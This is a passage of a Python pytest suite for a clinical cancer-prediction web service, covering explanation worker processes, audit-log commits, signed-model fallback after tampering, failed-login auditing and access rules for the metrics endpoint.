        many = {"patients": [{"id": f"E{i}", "modalities": {}} for i in range(500)], "top_k": 0}  # ~20 KB
        r = c.post("/v1/predict", json=many, headers=_auth(site["clinician"]))
        assert r.status_code == 422 and lane._next == sent  # many patients: checked in a thread, not the child
        monkeypatch.setattr(ip, "MAX_IN_FLIGHT", 0)  # as if 256 requests were waiting for a stalled child
        r = post()
        assert r.status_code == 503 and r.headers["Retry-After"] == "1" and "requests wait" in r.text
        monkeypatch.setattr(ip, "MAX_IN_FLIGHT", 256)
        first = lane.pid
        os.kill(first, signal.SIGSTOP)  # hung
        monkeypatch.setattr(ip, "ANSWER_WITHIN_S", 0.5)
        r = post()
        assert r.status_code == 503 and r.headers["Retry-After"] == "1" and "did not answer" in r.text
        monkeypatch.undo()  # the new child's start (its imports) counts against the next answer's time
        r = post()
        assert r.status_code == 200 and lane.pid not in (None, first), r.text
        second = lane.pid
        os.kill(second, signal.SIGKILL)
        lane._proc.join(5)
        r = post()
        assert r.status_code == 200 and lane.pid not in (None, second), r.text
        assert r.json()["predictions"][0]["id"] == "P000"


def test_the_traced_forward_pass_answers_exactly_as_the_model(site):
    from client.predict import Predictor

    lm = Predictor(site["settings"].model_dir, site["root"] / "state" / "normalizer.json").current
    x = site["x"][:40].clone()
    for i, s in enumerate(lm.model.slices):
        x[i::len(lm.model.slices), s] = float("nan")  # every modality missing for some patients
    assert isinstance(lm.forward(), torch.jit.ScriptModule)  # the model thread does not hold the GIL
    with torch.no_grad():
        want = lm.model.explain(x)
        logits, weights, present = lm.forward()(x)
    assert torch.equal(logits, want["logits"]) and torch.equal(weights, want["modality_weights"])
    assert torch.equal(present, want["present"])


def test_explanations_run_through_the_trace_with_the_models_attributions_while_predictions_share_it(site):
    """Integrated gradients through the trace (its ops do not take the GIL from the prediction path) attribute
    as through the module, also while another thread runs the same trace without gradients."""
    import dataclasses
    import threading

    from client.predict import IG_STEPS, Predictor, _eager, integrated_gradients

    lm = Predictor(site["settings"].model_dir, site["root"] / "state" / "normalizer.json").current
    x = site["x"][:32].clone()
    for i, s in enumerate(lm.model.slices):
        x[i::len(lm.model.slices) + 1, s] = float("nan")
    with torch.inference_mode():
        target = lm.forward()(x)[0].argmax(1)
    target = target.clone()
    calls = []
    hook = lm.model.register_forward_pre_hook(lambda module, args: calls.append(1))
    try:
        traced = integrated_gradients(lm, x, target)
        assert not calls  # the trace, not the module
        eager = integrated_gradients(dataclasses.replace(lm, _traced=_eager(lm.model)), x, target)
        assert len(calls) == IG_STEPS
    finally:
        hook.remove()
    assert np.abs(traced - eager).max() <= 1e-5 * np.abs(eager).max()
    def top(a):
        return np.argsort(-np.abs(a), axis=1, kind="stable")[:, :5]

    assert (top(traced) == top(eager)).all()

    # one trace, two threads: explanations with gradients, predictions under inference mode
    with torch.inference_mode():
        batches = [x[:1], x[:16]]
        alone = [lm.forward()(b) for b in batches]
    small = integrated_gradients(lm, x[:4], target[:4])
    done, wrong, counts = threading.Event(), [], {"ig": 0, "forward": 0}

    def explain():
        for _ in range(6):
            wrong.extend(["ig"] if not np.array_equal(integrated_gradients(lm, x[:4], target[:4]), small) else [])
            counts["ig"] += 1
        done.set()

    def predict():
        while not done.is_set():
            for b, want in zip(batches, alone):
                with torch.inference_mode():
                    got = lm.forward()(b)
                wrong.extend([] if all(torch.equal(g, w) for g, w in zip(got, want)) else [f"forward {len(b)}"])
                counts["forward"] += 1

    threads = [threading.Thread(target=explain), threading.Thread(target=predict)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(120)
    assert not wrong and counts["ig"] == 6 and counts["forward"] >= 6, (wrong, counts)


def test_explanation_requests_are_answered_whole_by_a_child_process_as_in_the_service_and_a_dead_child_is_replaced(
        site, monkeypatch):
    """The default `explanations = "process"`: an explanation request is parsed, checked, scored, explained and
    formatted in a SCHED_IDLE child (the service's own parsing, contract and formatting are made to fail here),
    and its answer equals the in-service one (`"thread"`), for JSON and uploaded tables, refusals included; a
    child killed between requests is replaced, one killed during a request costs that request a 503 with
    Retry-After, and the next one works."""
    import os
    import signal

    from fastapi.testclient import TestClient

    import client.predict
    import client.prediction_input

    body = {"patients": [_patient(site, i) for i in range(3)], "top_k": 4}
    late = {"top_k": 2, "patients": [_patient(site, 5)]}  # top_k first: also read without parsing
    bad = {"patients": [{"id": "empty", "modalities": {}}], "top_k": 3}
    files = {f"{m}.csv": _csv(site, m, [0, 1, 2]) for m in ("expr", "prot")}
    headers = _auth(site["clinician"])

    def asked(c):
        return ([c.post("/v1/predict", json=b, headers=headers) for b in (body, late, bad)]
                + [_upload(c, site, files, top_k=3)])

    with TestClient(create_app(_serving(site, {"explanations": "thread"}))) as c:
        here = asked(c)
    assert [r.status_code for r in here] == [200, 200, 422, 200]

    def broken(*a, **k):
        raise AssertionError("the service parsed, checked or formatted an explanation request itself")

    for module, name in ((client.prediction_input, "parse_request"), (client.prediction_input, "checked_json"),
                         (client.prediction_input, "checked_tables"), (client.predict, "format_predictions")):
        monkeypatch.setattr(module, name, broken)
    with TestClient(create_app(site["settings"])) as c:
        explainer = c.app.state.site.explanations.explainer
        there = asked(c)
        assert [r.json() for r in there] == [r.json() for r in here]
        assert there[1].json()["predictions"][0]["top_features"] and len(there[1].json()["predictions"]) == 1
        pid = explainer.pid
        assert pid is not None and pid != os.getpid()
        if hasattr(os, "SCHED_IDLE"):
            assert os.sched_getscheduler(pid) == os.SCHED_IDLE

        os.kill(pid, signal.SIGKILL)  # between requests: the next one starts a new child
        explainer._proc.join(10)
        again = c.post("/v1/predict", json=body, headers=headers)
        assert again.status_code == 200 and explainer.pid not in (None, pid)
        assert again.json() == here[0].json()

        start = explainer._start

        def start_then_die():  # the child dies while the request is in flight
            start()
            os.kill(explainer._proc.pid, signal.SIGKILL)
            explainer._proc.join(10)

        explainer._start = start_then_die
        refused = c.post("/v1/predict", json=body, headers=headers)
        assert refused.status_code == 503 and "explanation process ended" in refused.json()["detail"]
        assert refused.headers["retry-after"]
        explainer._start = start
        assert c.post("/v1/predict", json=body, headers=headers).status_code == 200
        assert c.app.state.site.explanations.waiting == 0
    assert explainer.pid is None  # closed with the service


def test_whether_a_body_asks_for_explanations_is_read_from_its_ends_and_only_routes_it():
    from client.prediction_input import asks_explanations, estimated_patients

    patients = [{"id": "a", "modalities": {"expr": {"top_k": 3}}}]
    assert asks_explanations(json.dumps({"patients": patients, "top_k": 5}).encode())
    assert asks_explanations(b' { "top_k" : 1 , "patients": []}')
    assert not asks_explanations(json.dumps({"patients": patients, "top_k": 0}).encode())
    assert not asks_explanations(json.dumps({"patients": patients}).encode())  # default 5: parsed, then routed
    assert not asks_explanations(b'{"patients": [{"id": "a", "modalities": {"expr": {"x": 1, "top_k": 3}}}]}')
    assert not asks_explanations(b'{"patients": [], "top_k": 3}}')  # not its top level
    assert estimated_patients(json.dumps({"patients": patients * 7}).encode()) == 7
    escaped = json.dumps({"patients": patients * 7}).replace('"modalities"', '"modalit\\u0069es"').encode()
    assert json.loads(escaped)["patients"][6]["modalities"] and estimated_patients(escaped) is None  # parsed, then


def test_an_explanation_is_scored_with_the_services_normalisation_even_if_the_file_changed_since(site, tmp_path):
    """The child takes the normalisation and calibration the service serves the model with, not the files as
    they are when it first reads them: an explanation's probabilities are the plain prediction's, also after the
    site's normalisation was refitted (`serve fit-normalizer`) while the service runs."""
    from fastapi.testclient import TestClient

    from shared_models.site_data import Normalizer

    settings = _copy_site(site, tmp_path)
    with TestClient(create_app(settings)) as c:
        state = tmp_path / "state" / "normalizer.json"
        before = Normalizer.load(state, site["schema"])
        Normalizer(site["schema"], before.mean + 0.05 * before.scale, before.scale * 1.05).save(state)
        patients = [_patient(site, i) for i in range(4)]
        # escaped keys: counted by parsing in the service, then answered by the child
        body = json.dumps({"patients": patients, "top_k": 3}).replace('"modalities"', '"modalit\\u0069es"')
        plain = c.post("/v1/predict", json={"patients": patients, "top_k": 0}, headers=_auth(site["clinician"]))
        explained = c.post("/v1/predict", content=body, headers={**_auth(site["clinician"]),
                                                                  "content-type": "application/json"})
        assert plain.status_code == explained.status_code == 200
        for a, b in zip(plain.json()["predictions"], explained.json()["predictions"]):
            assert a["probabilities"] == b["probabilities"] and b["top_features"]


def test_an_answer_waits_for_its_audit_commit_while_the_model_scores_the_next_batch(site):
    """The group commit overlaps the next forward pass, but no request is answered before its commit returns."""
    import asyncio
    import threading

    from client.predict import Predictor, format_predictions
    from client.serve_queue import ModelQueue

    predictor = Predictor(site["settings"].model_dir, site["root"] / "state" / "normalizer.json")
    lm = predictor.current
    release, committed = threading.Event(), []

    def commit(done):  # stands for the audit's write + fsync, held until the test releases it
        release.wait(30)
        committed.extend(job.ids[0] for job, _, _ in done)

    q = ModelQueue("test", predictor, format_predictions, commit)
    raw = site["x"][:2].numpy()

    async def scenario():
        first = asyncio.ensure_future(q.submit(["a"], raw[:1], 0, {"name": "t"}, lm, {}))
        await asyncio.sleep(0.3)  # "a" is scored and its commit has started (and blocks)
        second = asyncio.ensure_future(q.submit(["b"], raw[1:], 0, {"name": "t"}, lm, {}))
        for _ in range(300):  # the model scores "b" while "a" is still being committed
            if q.committing.qsize() == 1:
                break
            await asyncio.sleep(0.01)
        scored_during_commit = q.committing.qsize() == 1
        unanswered = not first.done() and not second.done()
        release.set()
        answers = await asyncio.gather(first, second)
        return scored_during_commit, unanswered, answers

    scored_during_commit, unanswered, answers = asyncio.run(scenario())
    assert scored_during_commit and unanswered
    assert committed == ["a", "b"] and [rows[0]["id"] for _, rows in answers] == ["a", "b"]


def test_small_requests_checked_on_the_loop_answer_as_large_ones_checked_in_a_thread(site, client):
    """Bodies of at most INLINE_BYTES with at most INLINE_PATIENTS patients are parsed and checked on the event
    loop, the rest in a parsing thread: the same contract, the same answers and refusals either way."""
    from client import serve_routes

    patients = [_patient(site, i) for i in range(12)]
    assert len(json.dumps({"patients": patients[:1]})) <= serve_routes.INLINE_BYTES and serve_routes.INLINE_PATIENTS < 12
    big = client.post("/v1/predict", json={"patients": patients, "top_k": 0}, headers=_auth(site["clinician"]))
    assert big.status_code == 200
    for i, p in enumerate(patients):
        one = client.post("/v1/predict", json={"patients": [p], "top_k": 0}, headers=_auth(site["clinician"]))
        a, b = one.json()["predictions"][0], big.json()["predictions"][i]
        assert {k: v for k, v in a.items() if k not in ("probabilities", "modality_contributions")} == \
            {k: v for k, v in b.items() if k not in ("probabilities", "modality_contributions")}
        assert all(abs(a["probabilities"][c] - b["probabilities"][c]) < 1e-4 for c in a["probabilities"])
    empty = [{"id": f"e{i}", "modalities": {}} for i in range(6)]
    inline = client.post("/v1/predict", json={"patients": empty[:1], "top_k": 0}, headers=_auth(site["clinician"]))
    threaded = client.post("/v1/predict", json={"patients": empty, "top_k": 0}, headers=_auth(site["clinician"]))
    assert inline.status_code == threaded.status_code == 422
    assert inline.json()["detail"][0]["code"] == threaded.json()["detail"][0]["code"] == "no_usable_feature"


def test_the_explanation_thread_runs_only_on_cpu_time_predictions_leave_and_audits_before_answering(site):
    """With `explanations = "thread"` the lane's thread is SCHED_IDLE (Linux), the prediction queue's model thread
    stays normal; an explanation's audit entry is committed before its answer and the head follows once the
    lane is idle."""
    import os
    import threading
    import time

    from fastapi.testclient import TestClient

    from privacy.audit import verify

    if not hasattr(os, "SCHED_IDLE"):
        pytest.skip("SCHED_IDLE is Linux's")
    with TestClient(create_app(_serving(site, {"explanations": "thread"}))) as c:
        audit = c.app.state.site.audit
        r = c.post("/v1/predict", json={"patients": [_patient(site, 1)], "top_k": 2}, headers=_auth(site["clinician"]))
        assert r.status_code == 200 and r.json()["predictions"][0]["top_features"]
        last = json.loads(audit.path.read_text().splitlines()[-1])
        assert last["event"] == "prediction" and last["patients"] == 1
        assert last["predicted"] == [r.json()["predictions"][0]["predicted"]]
        threads = {t.name: t.native_id for t in threading.enumerate()}
        assert os.sched_getscheduler(threads["oncofed-explain"]) == os.SCHED_IDLE
        # the commit shares the audit log with the predictions: never at idle priority
        assert os.sched_getscheduler(threads["oncofed-explain-audit"]) == os.SCHED_OTHER
        assert os.sched_getscheduler(threads["oncofed-model"]) == os.SCHED_OTHER
        for _ in range(100):  # the head is written when the lane has nothing waiting
            if not audit.head_behind:
                break
            time.sleep(0.02)
        assert not audit.head_behind and json.loads(audit.head.read_text())["entries"] == audit.current_head()[0]
        assert verify(audit.path).ok


def test_commits_answer_after_one_fsync_and_the_audit_head_follows_when_the_queue_goes_idle(site, tmp_path,
                                                                                           monkeypatch):
    import asyncio
    import time

    from client import serve_queue
    from client.predict import Predictor, format_predictions
    from client.serve_queue import ModelQueue
    from privacy.audit import AuditLog

    monkeypatch.setattr(serve_queue, "IDLE_S", 0.5)  # long enough that every answer below comes first
    predictor = Predictor(site["settings"].model_dir, site["root"] / "state" / "normalizer.json")
    log = AuditLog(tmp_path / "audit.jsonl")
    log.append("run_start")
    heads = log.fsyncs["head"]

    def commit(done):
        log.append_many([("prediction", {"id": i}) for job, _, _ in done for i in job.ids], head=False)

    q = ModelQueue("test", predictor, format_predictions, commit, idle=log.write_head)
    raw = site["x"][:8].numpy()

    async def scenario():
        return await asyncio.gather(*(q.submit([f"p{i}"], raw[i:i + 1], 0, {"name": "t"}, predictor.current, {})
                                      for i in range(8)))

    assert len(asyncio.run(scenario())) == 8
    assert log.fsyncs["head"] == heads  # every request answered after its commit's one fsync, before any head
    assert "behind the log" in verify(log.path).warnings[0]
    for _ in range(100):
        if not log.head_behind:
            break
        time.sleep(0.05)
    report = verify(log.path)
    assert report.ok and not report.warnings and report.entries == 9 and log.fsyncs["head"] == heads + 1


def test_audit_cost_in_metrics_and_the_head_written_at_shutdown(site, tmp_path):
    from fastapi.testclient import TestClient

    settings = _copy_site(site, tmp_path)
    with TestClient(create_app(settings)) as c:
        for i, top_k in enumerate((0, 0, 3)):  # top features: the explanation queue
            assert c.post("/v1/predict", json={"patients": [_patient(site, i)], "top_k": top_k},
                          headers=_auth(site["clinician"])).status_code == 200
        text = c.get("/metrics", headers=_auth(site["admin"])).text
    assert 'oncofed_serve_audit_commit_seconds_count{queue="model"} 2.0' in text
    assert 'oncofed_serve_audit_commit_seconds_count{queue="explain"} 1.0' in text
    assert 'oncofed_serve_audit_fsyncs_total{file="log"}' in text and "oncofed_serve_audit_head_seconds" in text
    report = verify(tmp_path / "state" / "audit.jsonl")
    assert report.ok and not report.warnings and report.entries == 3


def test_fast_json_parsing_keeps_the_standard_parsers_answers():
    from client.prediction_input import ServeSettings, parse_json

    limits = ServeSettings()
    assert parse_json(b'{"a": [1, 2.5, null, "x"]}', limits) == {"a": [1, 2.5, None, "x"]}
    big = parse_json(b'{"v": NaN, "n": 123456789012345678901234567890}', limits)  # orjson refuses both
    assert np.isnan(big["v"]) and big["n"] == 123456789012345678901234567890


def test_a_modalitys_values_filled_as_arrays_decide_and_write_exactly_as_one_by_one(monkeypatch):
    """The array path of the JSON fast path (client/prediction_input.py _fill_numeric) against the element
    loop, on rows of numeric (log1p), binary and plain features with every kind of value the loop rejects, the
    float32 range's edges, and features in changing orders."""
    import client.prediction_input as pin
    from client.prediction_input import ModalityInputs

    feats = {f"f{j}": (3 + j, ("log", "bin", "num")[j % 3], None) for j in range(12)}
    fmap = ModalityInputs(3, feats)
    rng = np.random.default_rng(0)
    odd = [None, True, "1.5", float("nan"), float("inf"), 1e300, -1.0, -2, 2, 0.5, 10**400, 7, np.float64(1.0),
           int(np.finfo(np.float32).max) + 1, -int(np.finfo(np.float32).max) - 1, float(np.finfo(np.float32).max),
           -float(np.finfo(np.float32).max)]
    cases = []
    for _ in range(400):
        row = {f: float(rng.normal(3, 1)) if spec[1] != "bin" else int(rng.integers(0, 2)) for f, spec in feats.items()}
        for f in rng.choice(list(feats), size=int(rng.integers(0, 3)), replace=False):
            row[str(f)] = odd[int(rng.integers(len(odd)))]
        if rng.random() < 0.05:
            row["foreign"] = 1.0
        if rng.random() < 0.3:  # another key order: the columns kept for the last order must not be reused
            row = {f: row[f] for f in rng.permutation(list(row))}
        cases.append(row)
    agree = 0
    for row in cases:
        vec, loop = np.full(20, np.nan, np.float32), np.full(20, np.nan, np.float32)
        a = pin._fill_row(vec, fmap, row)
        monkeypatch.setattr(pin, "VECTOR_MIN", 10**9)
        b = pin._fill_row(loop, fmap, row)
        monkeypatch.setattr(pin, "VECTOR_MIN", 8)
        assert a == b, row
        if a:
            assert np.array_equal(vec, loop, equal_nan=True), row
            agree += 1
    assert 100 < agree < 400  # both outcomes were exercised


# --- issue 20: operations ----------------------------------------------------------------------------
def _copy_site(site, tmp_path) -> dict:
    shutil.copytree(site["root"] / "models", tmp_path / "models")
    shutil.copytree(site["root"] / "state", tmp_path / "state")
    (tmp_path / "state" / "audit.jsonl").unlink(missing_ok=True)
    (tmp_path / "state" / "audit.jsonl.head").unlink(missing_ok=True)
    settings = SiteConfig(model_dir=str(tmp_path / "models"), state_dir=str(tmp_path / "state"), simulated=True)
    settings.write(tmp_path / "site.json")
    return settings



def test_a_real_site_without_a_trust_anchor_serves_no_model_it_cannot_verify(site, tmp_path):
    """Without signing-public-key a package whose signature does not verify was activated and served as healthy
    ("not checked (no trust anchor)"): outside a simulation the service refuses every version, naming site.json's key
    and where the consortium's key comes from; `serve activate` and `predict` refuse too."""
    from typer.testing import CliRunner

    from client.model_store import ModelStoreError
    from oncofed.cli import app

    _copy_site(site, tmp_path)
    settings = SiteConfig(model_dir=str(tmp_path / "models"), state_dir=str(tmp_path / "state"))
    settings.write(tmp_path / "site.json")
    with pytest.raises(ModelStoreError, match="signing-public-key is not set") as refused:  # `oncofed serve`: exit 2
        create_app(SiteConfig.load(tmp_path / "site.json"))
    assert str(tmp_path / "site.json") in str(refused.value) and "trust/signing.pub" in str(refused.value)
    for cli in (["serve", "activate", "--site-config", str(tmp_path / "site.json"), "--version", "v0001"],
                ["predict", "--site-config", str(tmp_path / "site.json"), "--data", str(site["data"]), "--out",
                 str(tmp_path / "out.csv")]):
        r = CliRunner().invoke(app, cli)
        assert r.exit_code == 2 and "signing-public-key is not set" in " ".join(r.output.split()), r.output
    assert (tmp_path / "models" / "ACTIVE").read_text().strip() == "v0002" and not (tmp_path / "out.csv").exists()


def test_a_normaliser_of_another_schema_is_refused_naming_the_file_and_the_fix(site, tmp_path):
    from client.model_store import ModelStoreError
    from client.predict import Predictor
    from shared_models.site_data import Normalizer

    settings = _copy_site(site, tmp_path)
    other = tiny_schema(omics_width=31)  # another consortium contract: its hash differs
    Normalizer(other, np.zeros(other.layout().n_inputs), np.ones(other.layout().n_inputs)).save(
        tmp_path / "state" / "normalizer.json")
    with pytest.raises(ModelStoreError, match="another feature schema") as e:
        Predictor(settings.model_dir, tmp_path / "state" / "normalizer.json", load_active=False)._load("v0002")
    assert "normalizer.json" in str(e.value) and "fit-normalizer" in str(e.value)

def test_a_request_stats_the_active_file_once(site, tmp_path, monkeypatch):
    """The service refreshes its model before every request: ACTIVE was stat'ed three times a request (the version
    to load, again under the refresh's lock, and its stamp); once is enough."""
    from pathlib import Path

    from client.predict import Predictor

    settings = _copy_site(site, tmp_path)
    predictor = Predictor(settings.model_dir, tmp_path / "state" / "normalizer.json")
    active, stat, seen = tmp_path / "models" / "ACTIVE", Path.stat, []
    monkeypatch.setattr(Path, "stat", lambda self, **kw: (seen.append(self) if self == active else None,
                                                         stat(self, **kw))[1])
    assert predictor.refresh(wait=False) is False
    assert len(seen) == 1, seen


def _serving_a_tampered_v0002(site, tmp_path):
    """A copy of the site whose active version v0002 was altered after install: the service falls back."""
    from fastapi.testclient import TestClient

    settings = _copy_site(site, tmp_path)
    ModelStore(tmp_path / "models").activate("v0002")
    with open(tmp_path / "models" / "v0002" / "weights.pt", "ab") as fh:
        fh.write(b"tampered")
    return TestClient(create_app(settings))


def test_a_tampered_active_package_falls_back_to_the_newest_verified_version(site, tmp_path):
    c = _serving_a_tampered_v0002(site, tmp_path)
    r = c.get("/health")  # unhealthy for monitoring, while the newest verified version answers predictions
    assert r.status_code == 503 and r.json() == {"status": "unhealthy", "model_version": "v0001"}
    degraded = c.get("/v1/model", headers=_auth(site["clinician"])).json()["degraded"]  # why: with a token
    assert degraded["serving"] == "v0001" and degraded["active"] == "v0002" and "does not match" in degraded["reason"]
    assert c.get("/health/live").status_code == 200
    r = c.post("/v1/predict", json={"patients": [_patient(site, 0)], "top_k": 0}, headers=_auth(site["clinician"]))
    assert r.json()["model_version"] == "v0001" and r.json()["degraded"]["serving"] == "v0001"
    entries = [json.loads(x) for x in (tmp_path / "state" / "audit.jsonl").read_text().splitlines()]
    assert [e for e in entries if e["event"] == "model_fallback"][0]["serving"] == "v0001"
    with open(tmp_path / "models" / "v0001" / "weights.pt", "ab") as fh:  # nothing verifies any more
        fh.write(b"tampered")
    shutil.copytree(tmp_path / "models" / "v0002", tmp_path / "models" / "v0003")
    (tmp_path / "models" / "ACTIVE").write_text("v0003\n")  # e.g. an admin activates a broken copy
    r = _health_once(c, lambda h: h.get("model_version") is None)  # v0003, then v0001, tried in the background
    assert r.status_code == 503 and r.json() == {"status": "unhealthy", "model_version": None}
    r = c.get("/v1/model", headers=_auth(site["clinician"]))
    assert r.status_code == 503 and "v0003" in r.json()["detail"]
    assert "no older installed version verifies" in r.json()["detail"]


def test_a_fallback_the_audit_log_cannot_record_is_logged_naming_the_log(site, tmp_path, caplog):
    """A version activated meanwhile loads in a thread, which dropped what its fallback raised: a `model_fallback`
    entry the audit log could not take was lost without a word. It is logged (to stderr: the service sets no
    handler) with the log's path."""
    import time

    from fastapi.testclient import TestClient

    from privacy.audit import AuditLog

    settings = _copy_site(site, tmp_path)
    ModelStore(tmp_path / "models").activate("v0001")
    c = TestClient(create_app(settings))
    assert c.get("/health").json()["model_version"] == "v0001"
    audit = tmp_path / "state" / "audit.jsonl"
    AuditLog(audit).append("prediction", token="dr")
    AuditLog(audit).append("prediction", token="dr")
    audit.write_text(audit.read_text().splitlines()[0] + "\n")  # the last entry lost: the log takes no more
    with open(tmp_path / "models" / "v0002" / "weights.pt", "ab") as fh:
        fh.write(b"tampered")
    (tmp_path / "models" / "ACTIVE").write_text("v0002\n")
    deadline = time.monotonic() + 30
    while not (said := [r.getMessage() for r in caplog.records if r.levelname == "WARNING"
                        and "fallback to v0001" in r.getMessage()]):
        assert time.monotonic() < deadline, caplog.text
        c.get("/health")
        time.sleep(0.05)
    assert str(audit) in said[0], said


def _health_once(c, settled, seconds: float = 30.0):
    """/health once `settled(its body)`: a newly activated version is loaded in the background."""
    import time

    deadline = time.monotonic() + seconds
    while not settled((r := c.get("/health")).json()):
        assert time.monotonic() < deadline, r.text
        time.sleep(0.05)
    return r


def test_rolling_back_to_the_fallback_version_clears_the_degraded_state(site, tmp_path):
    c = _serving_a_tampered_v0002(site, tmp_path)
    assert c.get("/health").status_code == 503
    r = c.post("/v1/models/activate", json={"rollback": True}, headers=_auth(site["admin"]))
    assert r.status_code == 200 and r.json()["active"] == "v0001"
    health = c.get("/health")
    assert health.status_code == 200 and health.json()["model_version"] == "v0001", health.json()
    r = c.post("/v1/predict", json={"patients": [_patient(site, 0)], "top_k": 0}, headers=_auth(site["clinician"]))
    assert r.json()["model_version"] == "v0001" and not r.json().get("degraded")


def test_installed_versions_without_an_active_one_name_the_command_that_activates_one(site, tmp_path):
    from client.model_store import ModelStoreError
    from client.predict import Predictor

    settings = _copy_site(site, tmp_path)
    (tmp_path / "models" / "ACTIVE").unlink()  # an install interrupted between its rename and ACTIVE
    with pytest.raises(ModelStoreError, match="v0001, v0002 installed but none is active .* oncofed serve activate"):
        Predictor(settings.model_dir, tmp_path / "state" / "normalizer.json")
    cli = [sys.executable, "-m", "oncofed", "serve", "activate", "--site-config", str(tmp_path / "site.json")]
    r = subprocess.run(cli + ["--version", "v0009"], capture_output=True, text=True)
    assert r.returncode == 2 and "installed: v0001, v0002" in r.stderr
    r = subprocess.run(cli + ["--version", "v0001"], capture_output=True, text=True)
    assert r.returncode == 0 and "v0001 is active (was none)" in r.stdout, r.stderr
    assert ModelStore(tmp_path / "models").active() == "v0001"
    r = subprocess.run([sys.executable, "-m", "oncofed", "predict", "--site-config", str(tmp_path / "site.json"),
                        "--data", str(site["data"]), "--out", str(tmp_path / "missing" / "p.csv")],
                       capture_output=True, text=True)
    assert r.returncode == 2 and "is not a directory this user may write to" in r.stderr and "Traceback" not in r.stderr


def test_a_model_switch_the_audit_log_cannot_record_is_not_made(site, tmp_path):
    """`serve activate` (and the route) write the audit entry once the version verified and before the switch: with a
    log that cannot be appended to (it lost its last entry), nothing is switched, and the reason is named."""
    from privacy.audit import AuditLog

    _copy_site(site, tmp_path)
    log = AuditLog(tmp_path / "state" / "audit.jsonl")
    log.append("prediction", token="dr")
    log.append("prediction", token="dr")
    lines = (tmp_path / "state" / "audit.jsonl").read_text().splitlines()
    (tmp_path / "state" / "audit.jsonl").write_text(lines[0] + "\n")  # the last entry lost
    before = ModelStore(tmp_path / "models").active()
    other = next(v for v in ModelStore(tmp_path / "models").versions() if v != before)
    r = subprocess.run([sys.executable, "-m", "oncofed", "serve", "activate", "--site-config",
                        str(tmp_path / "site.json"), "--version", other], capture_output=True, text=True)
    assert r.returncode == 2 and "cannot record the switch, nothing changed" in r.stderr, r.stderr
    assert "Traceback" not in r.stderr and ModelStore(tmp_path / "models").active() == before


def test_failed_logins_and_every_prediction_path_are_audited(site, tmp_path):
    from fastapi.testclient import TestClient

    settings = _copy_site(site, tmp_path)
    c = TestClient(create_app(settings))
    c.post("/v1/predict", json={"patients": [_patient(site, 0)]}, headers=_auth("ofd_guess"))
    c.get("/v1/models", headers=_auth(site["clinician"]))
    c.post("/v1/predict", json={"patients": [_patient(site, 0)], "top_k": 0},
           headers={**_auth(site["clinician"]), "X-OncoFed-Client": "page"})
    from typer.testing import CliRunner

    from oncofed.cli import app

    r = CliRunner().invoke(app, ["predict", "--site-config", str(tmp_path / "site.json"), "--data", str(site["data"]),
                                 "--out", str(tmp_path / "p.csv")])  # as a process: test_batch_cli
    assert r.exit_code == 0, r.output
    entries = [json.loads(x) for x in (tmp_path / "state" / "audit.jsonl").read_text().splitlines()]
    failed = [e for e in entries if e["event"] == "login_failed"]
    assert [f["reason"] for f in failed] == ["unknown or revoked token", "role clinician may not manage"]
    assert "ofd_guess" not in json.dumps(entries)
    vias = [e["via"] for e in entries if e["event"] == "prediction"]
    assert vias[0] == "page" and vias[1:] == ["cli"] * len(vias[1:]) and len(vias) >= 2
    assert sum(e["patients"] for e in entries if e.get("via") == "cli") == N
    assert verify(tmp_path / "state" / "audit.jsonl").ok


def test_failed_logins_are_audited_per_client_and_minute_with_their_count(site, tmp_path, monkeypatch):
    """1,000 bad tokens in 6 s wrote and fsynced 1,000 entries (330 KB). Now the first refusal of a kind (client,
    reason, path) in a minute is written at once, the rest counted and written as one entry with their `count`:
    when the window closes (the service looks every few seconds), before its next audit entry, or at shutdown."""
    import time

    import client.serve
    from fastapi.testclient import TestClient

    monkeypatch.setattr(client.serve, "FAILED_LOGIN_WINDOW_S", 1.2)  # the service looks for closed windows every 0.1 s
    settings = _copy_site(site, tmp_path)
    log = tmp_path / "state" / "audit.jsonl"

    def entries():
        return [json.loads(x) for x in log.read_text().splitlines()] if log.exists() else []

    with TestClient(create_app(settings)) as c:
        now = [0.0]
        c.app.state.site.failed_logins.clock = lambda: now[0]  # the windows close when the test says so
        for _ in range(300):
            assert c.get("/v1/model", headers=_auth("ofd_guess")).status_code == 401
        assert [(e["reason"], e.get("count")) for e in entries()] == [("unknown or revoked token", None)]
        assert c.get("/v1/model").status_code == 401  # another refusal: at once, after the count so far
        assert [(e["reason"], e.get("count")) for e in entries()][1:] == [("unknown or revoked token", 299),
                                                                          ("no bearer token", None)]
        summary = entries()[1]
        assert summary["path"] == "/v1/model" and summary["client"] == "testclient"
        assert summary["first"] <= summary["last"]
        for _ in range(5):
            c.get("/v1/model", headers=_auth("ofd_guess"))
        time.sleep(0.3)
        assert len(entries()) == 3  # counted, in a window still open
        now[0] = 2.0  # the minute is over: its count is written without waiting for another request
        deadline = time.time() + 10
        while len(entries()) < 4 and time.time() < deadline:
            time.sleep(0.05)
        assert (entries()[3]["reason"], entries()[3].get("count")) == ("unknown or revoked token", 5)
        for _ in range(3):  # a new window: its first at once, the other two counted ...
            c.get("/v1/model", headers=_auth("ofd_guess"))
        assert c.post("/v1/predict", json={"patients": [_patient(site, 0)], "top_k": 0},
                      headers=_auth(site["clinician"])).status_code == 200  # ... and written before this entry
        c.get("/v1/model", headers=_auth("ofd_guess"))  # counted, written at shutdown
    got = [(e["event"], e.get("count")) for e in entries()]
    assert got == [("login_failed", None), ("login_failed", 299), ("login_failed", None), ("login_failed", 5),
                   ("login_failed", None), ("login_failed", 2), ("prediction", None), ("login_failed", 1)], got
    assert sum(e.get("count", 1) for e in entries() if e["event"] == "login_failed") == 310
    assert log.stat().st_size < 5000 and verify(log).ok


def _site_with_a_monitoring_token(site, tmp_path):
    settings = _copy_site(site, tmp_path)
    return settings, TokenStore(tmp_path / "state" / TOKENS_FILE).add("prometheus", "monitoring")


def test_metrics_need_a_monitoring_or_admin_token_and_health_tells_only_status_and_version(site, tmp_path):
    """/metrics counts predictions per class: scraped around one request, it told anyone on the machine that
    patient's predicted type. /health told the queues and, when unhealthy, paths and versions."""
    from fastapi.testclient import TestClient

    settings, monitoring = _site_with_a_monitoring_token(site, tmp_path)
    c = TestClient(create_app(settings))
    assert c.post("/v1/predict", json={"patients": [_patient(site, 0)], "top_k": 0},
                  headers=_auth(site["clinician"])).status_code == 200
    assert c.get("/metrics").status_code == 401
    assert c.get("/metrics", headers=_auth(site["clinician"])).status_code == 403
    for token in (monitoring, site["admin"]):
        r = c.get("/metrics", headers=_auth(token))
        assert r.status_code == 200 and "oncofed_serve_predictions_total" in r.text
